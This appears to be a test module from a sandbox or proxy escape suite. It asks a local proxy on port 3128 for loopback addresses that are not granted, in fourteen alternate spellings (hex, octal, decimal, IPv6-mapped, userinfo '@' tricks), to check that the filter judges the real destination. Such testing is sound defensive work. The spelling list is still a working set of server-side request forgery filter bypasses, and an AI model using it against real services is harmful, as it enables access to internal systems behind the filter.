"""Ask the door for a host that is not granted, in every spelling of its address.

origin: server-side request forgery filters and their bypasses
why: the door must judge where it connects, not what it was told
control: succeeds
harm: stage
grants: net:127.0.0.1:1
"""

import socket

SPELLINGS = ("127.0.0.1", "localhost", "127.1", "2130706433", "0x7f.1", "0177.0.0.1", "0.0.0.0", "[::ffff:127.0.0.1]",
             "[::1]", "127.0.0.1.", "LOCALHOST", "a.localhost", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]")


def attack(target):
    port = target["tcp"]
    for name in SPELLINGS:
        for request in (f"CONNECT {name}:{port} HTTP/1.1", f"GET http://{name}:{port}/ HTTP/1.1",
                        f"GET http://127.0.0.1:1@{name}:{port}/ HTTP/1.1"):
            answer = ask(3128, f"{request}\r\nHost: 127.0.0.1:1\r\n\r\n")
            if answer.startswith("HTTP/1.1 200"):
                return escaped(f"the door led to {name}")
    return nothing(f"the door said {answer[:40]!r}; directly: {ask(port, 'x')!r}")


def ask(port, text):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.5) as door:
            door.sendall(text.encode())
            return door.recv(100).decode("latin-1")
    except OSError as error:
        return str(error)
